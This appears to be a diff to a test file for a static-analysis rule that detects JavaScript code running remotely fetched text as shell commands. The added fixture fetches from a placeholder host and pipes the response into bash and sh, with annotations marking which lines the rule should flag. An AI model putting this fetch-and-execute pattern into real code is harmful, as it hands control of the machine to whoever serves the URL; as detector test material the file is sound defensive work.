@@ -29,3 +29,13 @@ setInterval(async () => {
   // ruleid: remote-code-answer-executed-js
   exec(next.line, (fault, out) => report(out));
 }, 9000);
+async function told() {
+  const text = await (await fetch("https://a.invalid/t")).text();
+  const shell = spawn("bash", ["-s"]);
+  // ruleid: remote-code-answer-executed-js
+  shell.stdin.write(text);
+  // ruleid: remote-code-answer-executed-js
+  execFileSync("sh", ["-s"], { input: text });
+  // ok: remote-code-answer-executed-js
+  execFileSync("jq", ["."], { input: text });
+}
